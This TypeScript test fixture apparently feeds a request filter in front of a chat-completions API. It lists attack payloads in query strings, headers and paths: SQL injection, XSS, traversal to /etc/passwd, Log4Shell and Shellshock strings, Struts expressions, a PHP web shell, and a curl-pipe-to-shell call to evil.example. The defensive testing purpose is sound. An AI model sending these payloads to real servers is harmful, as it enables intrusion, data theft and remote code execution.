/** A request that has no business here, in its query, a header or its path. */
export interface Attack {
  readonly name: string;
  /** As it goes over the wire. */
  readonly target: string;
  readonly method?: 'GET' | 'POST';
  readonly headers?: Readonly<Record<string, string>>;
}

const query = (name: string, text: string): Attack => ({
  name: `${name} in the query`,
  target: `/v1/models?q=${encodeURIComponent(text)}`,
});
const header = (name: string, headers: Readonly<Record<string, string>>): Attack => ({
  name: `${name} in a header`,
  target: '/v1/models',
  headers,
});
const path = (name: string, target: string): Attack => ({ name: `${name} in the path`, target });
/** On a route whose body is let through: all else of the request is still looked at. */
const onPromptRoute = (attack: Attack): Attack => ({
  ...attack,
  name: `${attack.name} of a prompt route`,
  method: 'POST',
  target: attack.target.replace('/v1/models', '/v1/chat/completions'),
});

/** Attacks on servers of all kinds. */
export const ATTACKS: readonly Attack[] = [
  query('a tautology of SQL', "1' OR '1'='1"),
  query('a union of SQL', '1 UNION SELECT username, password FROM users--'),
  query('a waiting database', "1'; SELECT pg_sleep(10)--"),
  query('a script', '<script>alert(1)</script>'),
  query('an event handler', '<img src=x onerror=alert(document.cookie)>'),
  query('traversal', '../../../../etc/passwd'),
  query('a shell command', '; cat /etc/passwd'),
  query('a substituted command', '$(curl http://evil.example/x.sh|sh)'),
  query('PHP', "<?php system($_GET['c']); ?>"),
  query('a wrapper of PHP', 'php://filter/convert.base64-encode/resource=index.php'),
  query('Log4Shell', '${jndi:ldap://evil.example/a}'),
  query('a remote file', 'http://203.0.113.5/shell.txt?'),
  query('Java', 'java.lang.Runtime.getRuntime().exec("id")'),
  query('a split response', 'a\r\nSet-Cookie: session=1'),
  query('a command of Windows', '& powershell -enc SQBFAFgA'),

  header('Log4Shell', { 'user-agent': '${jndi:ldap://evil.example/a}' }),
  header('a scanner of databases', { 'user-agent': 'sqlmap/1.7' }),
  header('a scanner of sites', { 'user-agent': 'Mozilla/5.00 (Nikto/2.1.6)' }),
  header('Shellshock', { 'user-agent': '() { :; }; /bin/bash -c "cat /etc/passwd"' }),
  header('a script', { referer: 'https://example.com/<script>alert(1)</script>' }),
  header('SQL', { cookie: "session=1' UNION SELECT password FROM users--" }),
  header('an expression of Struts', {
    'content-type': "%{(#a='multipart/form-data').(#b=@java.lang.Runtime@getRuntime().exec('id'))}",
  }),

  path('traversal', '/v1/../../../../etc/passwd'),
  path('encoded traversal', '/v1/%2e%2e/%2e%2e/%2e%2e/etc/passwd'),
  path('a file of secrets', '/.env'),
  path('a repository', '/.git/config'),
  path('a script', '/v1/%3Cscript%3Ealert(1)%3C/script%3E'),

  onPromptRoute(query('a union of SQL', '1 UNION SELECT username, password FROM users--')),
  onPromptRoute(query('Log4Shell', '${jndi:ldap://evil.example/a}')),
  onPromptRoute(header('a scanner', { 'user-agent': 'sqlmap/1.7' })),
];
